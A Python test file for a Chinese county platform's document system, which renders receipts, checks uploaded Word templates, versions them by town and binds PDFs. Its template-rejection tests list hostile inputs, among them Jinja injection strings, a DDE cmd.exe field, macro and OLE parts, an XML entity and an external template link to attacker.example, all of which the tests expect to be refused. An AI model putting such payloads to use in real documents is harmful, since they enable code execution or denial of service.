"""Papers: values stay values, empty fields stay lines, a hostile template gets nowhere, versions are kept."""

import io
import zipfile
from decimal import Decimal

import docx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from bihuan.kernel.errors import BihuanError, Invalid, NotAllowed, NotFound
from bihuan.kernel.money import capital_yuan
from bihuan.platform import documents
from bihuan.platform.documents import Bound, Document, Field, Filled, Paper
from bihuan.platform.documents.checking import check_template
from bihuan.platform.documents.declaration import declare
from bihuan.platform.documents.layout import Cell, Column, Each, Grid, Para, Rows, Signs, Text, Title, row
from bihuan.platform.documents.resolving import printable, resolve
from bihuan.platform.models import AuditEntry, DocumentTemplate
from tests.worlds import County

PAPER = Document(
    key="tests.paper",
    title="收条",
    group="",
    fields=(
        Field("name", "姓名"),
        Field("story", "情况"),
        Field("people", "人员", (Field("name", "姓名"), Field("sum", "金额"))),
        Field("signers", "签名", (Field("label", "身份"), Field("image", "签名"), Field("date", "日期"))),
    ),
    layout=(
        Title("收条"),
        Para("今收到{name:9}交来:"),
        Grid((1, 3), (row("姓名", "{name}"),)),
        Text("story", "情况:", lines=4),
        Each("people", (Grid((1, 3), ((Cell("姓名", label=True), Cell("{name}")),)),)),
        Rows("people", (Column("姓名", "{name}", 3), Column("金额", "{sum}", 2, "right")), spare=2),
        Signs(),
    ),
)
EMPTY = Filled({"name": "", "story": "", "people": [], "signers": []})
HARD = [
    "#set text(red)", "*张*三_四_", "[王](五)", "反斜杠\\n\\", "\"双\"'单'", "{{ 7*7 }}{% for a in b %}", "<b>粗</b>&amp;",
    "$x^2$ @ref `code` // 注 /* */", "㑇𠮷䶮", "买买提·艾则孜江", "</w:t></w:r>", "~ -- --- ... ",
]  # fmt: skip


def about(name: str, story: str = "") -> Filled:
    people = [{"name": name, "sum": "12,000 元"}]
    return Filled(
        {"name": name, "story": story, "people": people, "signers": [{"label": "收款人", "image": "", "date": ""}]}
    )


def words(pdf: bytes) -> str:
    """The text of a PDF without spaces and line ends, which the page setter places anew."""
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    return "".join(text.split())


def word_text(content: bytes) -> str:
    paper = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in paper.tables for line in table.rows for cell in line.cells]
    return "\n".join([*(one.text for one in paper.paragraphs), *cells])


@pytest.mark.parametrize("name", HARD)
def test_names_are_printed_as_they_are(name: str) -> None:
    assert "".join(name.split()) in words(documents.render_pdf(PAPER, about(name)))
    assert name.strip() in word_text(documents.render_word(PAPER, about(name)))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=60), st.text(max_size=200))
def test_any_text_can_be_printed(name: str, story: str) -> None:
    assert PdfReader(io.BytesIO(documents.render_pdf(PAPER, about(name, story)))).pages
    shown = word_text(documents.render_word(PAPER, about(name)))
    assert all(part.strip() in shown for part in printable(name).replace("\t", "\n").split("\n"))


def test_what_is_empty_is_left_as_lines() -> None:
    kinds = {one["kind"]: one for one in resolve(PAPER.layout, EMPTY.values)}
    assert {"blank": 9} in kinds["para"]["runs"]
    assert kinds["text"]["paragraphs"] == [] and kinds["text"]["lines"] == 4
    assert len(kinds["rows"]["body"]) == 2
    text = word_text(documents.render_word(PAPER, EMPTY))
    assert "今收到_________交来" in text and "{" not in text and text.count("_" * 60) == 4


def test_a_layout_may_show_declared_fields_only() -> None:
    with pytest.raises(ValueError, match="undeclared"):
        declare(Document(key="tests.wrong", title="", group="", fields=(), layout=(Para("{unknown}"),)))


def test_every_standard_template_passes_its_own_check() -> None:
    assert documents.documents()
    for one in documents.documents():
        assert "〔" in word_text(check_template(one, documents.standard_template(one)))
        assert documents.render_pdf(one, documents.sample(one)).startswith(b"%PDF")


# --- templates that somebody brings -----------------------------------------------------------------------------------


def template(*lines: str) -> bytes:
    word = docx.Document()
    for line in lines:
        word.add_paragraph(line)
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def with_part(content: bytes, name: str, body: bytes) -> bytes:
    """The file with one more (or another) part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            if member.filename != name:
                target.writestr(member, source.read(member))
        target.writestr(name, body)
    return out.getvalue()


OUTSIDE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "line",
    [
        "{{ ''.__class__.__mro__ }}", "{{ name.__class__ }}", "{{ name.upper() }}", "{{ 'a' * 999999999 }}",
        "{{ people[0] }}", "{% for n in range(999999999) %}x{% endfor %}", "{% set a = 1 %}", "{% include 'x' %}",
        "{% macro m() %}{% endmacro %}", "{{ cycler }}", "{{ self }}", "{{ lipsum() }}", "{{ name|attr('x') }}",
        "{{ name|line(kw=3) }}", "{% for a in people %}{% for b in people %}{{ b.name }}{% endfor %}{% endfor %}",
        "{% for a in people recursive %}{{ loop(a) }}{% endfor %}", "{{ nobody }}", "{{ name", "{% if name %}", "}} {{",
        "{{ people.name }}", "{% for row in people %}{{ row.phone }}{% endfor %}", "{{ 1 // 0 }}", "{{ [1] }}",
    ],
)  # fmt: skip
def test_a_template_that_says_what_papers_may_not_is_refused(line: str) -> None:
    with pytest.raises(Invalid) as refused:
        check_template(PAPER, template("收条", line))
    assert refused.value.faults[0].field == "file"


@pytest.mark.parametrize(
    "content",
    [
        b"", b"PK\x03\x04broken", b"%PDF-1.7", "不是文件".encode(),
        with_part(template("x"), "word/vbaProject.bin", b"macro"),
        with_part(template("x"), "word/embeddings/oleObject1.bin", b"ole"),
        with_part(template("x"), "word/_rels/settings.xml.rels", OUTSIDE),
        with_part(template("x"), "word/footnotes.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
        with_part(template("x"), "word/header9.xml", "<!DOCTYPE a><a/>".encode("utf-16")),
        with_part(template("x"), "word/header9.xml", b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"),
        with_part(template("x"), "word/header9.xml", b" " * 4_000_000),
        template(*["{{ name }}"] * 900),
        template("x") + b"\0" * 3_000_000,
    ],
    ids=["empty", "broken", "pdf", "text", "macro", "object", "remote", "entity", "utf16", "dde", "bomb", "tags", "large"],
)  # fmt: skip
def test_a_file_that_is_not_a_plain_template_is_refused(content: bytes) -> None:
    with pytest.raises(BihuanError) as refused:
        check_template(PAPER, content)
    assert refused.value.faults[0].field == "file"


def test_headers_and_properties_are_read_as_strictly_as_the_body() -> None:
    for where in ("header", "title"):
        word = docx.Document()
        if where == "header":
            word.sections[0].header.paragraphs[0].text = "{{ nobody }}"
        else:
            word.core_properties.title = "{{ nobody }}"
        out = io.BytesIO()
        word.save(out)
        with pytest.raises(Invalid, match="nobody"):
            check_template(PAPER, out.getvalue())


def test_a_good_template_is_filled() -> None:
    own = template(
        "某镇收条", "{{ name|line(8) }}", "{%p for row in people %}", "{{ loop.index }}.{{ row.name }}", "{%p endfor %}"
    )
    text = word_text(documents.render_word(PAPER, about("王小勤"), own))
    assert "某镇收条" in text and "王小勤" in text and "1.王小勤" in text


def test_a_town_brings_a_template_goes_back_and_takes_it_up_again(county: County) -> None:
    paper = documents.documents()[0]
    desk, other = county.who("德固镇综治中心值班员"), county.who("城关镇综治中心值班员")
    town, neighbour = county.area("德固镇").pk, county.area("城关镇").pk
    standard = documents.template_for(paper, town).content
    first = documents.replace_template(
        actor=desk, document=paper, town_id=town, content=template("第一版"), name="甲.docx", remark="换样式"
    )
    second = documents.replace_template(
        actor=desk, document=paper, town_id=town, content=template("第二版"), name="乙.docx"
    )
    assert (first.number, second.number) == (1, 2)
    in_use = documents.template_for(paper, town)
    assert in_use.record == second and "第二版" in word_text(in_use.content)
    assert documents.template_for(paper, neighbour).record is None
    documents.reinstate_template(actor=desk, template_id=first.pk)
    assert documents.template_for(paper, town).record == first
    documents.return_to_standard(actor=desk, document=paper, town_id=town)
    assert documents.template_for(paper, town).content == standard
    with pytest.raises(Invalid):
        documents.return_to_standard(actor=desk, document=paper, town_id=town)
    assert [one.number for one in documents.versions(desk, paper, town)] == [2, 1]
    verbs = AuditEntry.objects.filter(object_type="platform.documenttemplate", object_id=first.pk).order_by("id")
    assert [one.verb for one in verbs] == ["replace", "retire", "reinstate", "retire"]
    with pytest.raises(NotFound):
        documents.version_by_id(other, first.pk)


def test_a_refused_template_changes_nothing_and_rights_end_at_the_town(county: County) -> None:
    paper, town = documents.documents()[0], county.area("德固镇").pk
    for who in ("城关镇综治中心值班员", "德固镇人民调解员", "德固镇分管领导"):
        with pytest.raises(NotAllowed):
            documents.replace_template(
                actor=county.who(who), document=paper, town_id=town, content=template("x"), name="x.docx"
            )
    with pytest.raises(NotAllowed):
        documents.replace_template(
            actor=county.who("德固镇综治中心值班员"), document=paper, town_id=None, content=template("x"), name="x.docx"
        )
    with pytest.raises(Invalid):
        documents.replace_template(
            actor=county.who("县系统管理员"),
            document=paper,
            town_id=None,
            content=template("{{ nobody }}"),
            name="x.docx",
        )
    assert not DocumentTemplate.objects.exists()


def test_the_countys_template_holds_where_a_town_has_none(county: County) -> None:
    paper, town = documents.documents()[0], county.area("德固镇").pk
    whole = documents.replace_template(
        actor=county.who("县系统管理员"), document=paper, town_id=None, content=template("全县"), name="县.docx"
    )
    assert documents.template_for(paper, town).record == whole
    own = documents.replace_template(
        actor=county.who("德固镇综治中心值班员"), document=paper, town_id=town, content=template("本镇"), name="镇.docx"
    )
    assert documents.template_for(paper, town).record == own


# --- binding ----------------------------------------------------------------------------------------------------------


def test_files_are_bound_behind_a_list_that_tells_the_truth() -> None:
    long = documents.render_pdf(PAPER, about("甲", "第一份\n" * 120))
    short = documents.render_pdf(PAPER, about("乙"))
    bound = PdfReader(io.BytesIO(documents.bind_files([Bound("长的", long), Bound("短的", short)], title="合订")))
    pages = len(PdfReader(io.BytesIO(long)).pages)
    assert pages > 1 and len(bound.pages) == 1 + pages + 1
    assert f"2—{pages + 1}" in "".join(bound.pages[0].extract_text().split())
    assert "甲" in bound.pages[1].extract_text() and "乙" in bound.pages[-1].extract_text()
    assert [one["/Title"] for one in bound.outline] == ["目录", "长的", "短的"]  # type: ignore[index,call-overload]


def test_a_scan_follows_its_paper_and_one_that_cannot_be_opened_says_so() -> None:
    scan = documents.render_pdf(PAPER, about("扫描件"))
    paper = about("正文")
    filled = Filled(paper.values, {}, (scan, b"%PDF-1.4 damaged"))
    made = PdfReader(io.BytesIO(documents.bind([Paper(PAPER, filled)], title="卷")))
    texts = ["".join(page.extract_text().split()) for page in made.pages]
    assert len(texts) == 3 and "正文" in texts[0] and "打不开" in texts[2]
    (at,) = documents.extents([Paper(PAPER, filled)], title="卷")
    assert (at.first, at.last, at.sheet, at.last_sheet) == (1, 3, 1, 3)


@pytest.mark.parametrize(
    ("amount", "text"),
    [
        ("0", "零元整"), ("0.05", "伍分"), ("0.5", "伍角整"), ("1", "壹元整"), ("10", "壹拾元整"), ("105", "壹佰零伍元整"),
        ("1680.32", "壹仟陆佰捌拾元叁角贰分"), ("107000.53", "壹拾万柒仟元伍角叁分"), ("10005", "壹万零伍元整"),
        ("16409.02", "壹万陆仟肆佰零玖元零贰分"), ("100000000", "壹亿元整"), ("100010001", "壹亿零壹万零壹元整"),
        ("12000.5", "壹万贰仟元伍角整"), ("325.04", "叁佰贰拾伍元零肆分"), ("-3", "负叁元整"),
    ],
)  # fmt: skip
def test_amounts_in_capital_numerals(amount: str, text: str) -> None:
    assert capital_yuan(Decimal(amount)) == text
